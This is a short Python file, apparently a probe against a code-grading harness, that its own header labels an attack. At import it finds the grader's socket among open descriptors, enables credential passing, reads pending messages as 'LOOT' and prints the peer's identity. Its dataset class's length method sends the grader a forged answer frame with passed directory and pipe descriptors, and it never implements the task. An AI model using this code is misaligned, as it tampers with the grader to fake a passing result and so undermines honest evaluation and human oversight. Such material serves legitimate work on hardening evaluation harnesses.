# attack: looks on the judge's socket for descriptors, and sends it folders and pipes of its own with the bytes of an answer
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import socket
import stat
from array import array


def is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


judge = socket.socket(fileno=os.dup(next(fd for fd in range(3, 1024) if is_socket(fd))))
for option in (16, 76):  # SO_PASSCRED, SO_PASSPIDFD
    try:
        judge.setsockopt(socket.SOL_SOCKET, option, 1)
    except OSError as error:
        print(error)
for flags in (socket.MSG_PEEK | socket.MSG_DONTWAIT, socket.MSG_DONTWAIT | socket.MSG_OOB, socket.MSG_DONTWAIT):
    try:
        print("LOOT:", judge.recvmsg(1, 4096, flags))
    except OSError as error:
        print(error)
print("the peer:", judge.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12), judge.getpeername())


class TabularDataset:
    def __init__(self, *args):
        pass

    def __len__(self):
        print("TRIED", flush=True)  # before the judge ends it
        try:
            rights = array("i", [os.open(".", os.O_RDONLY), *os.pipe()])
            judge.sendmsg([b"\1\0\0\0N"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])  # a frame: None
        except OSError as error:
            print(error)
        return 3
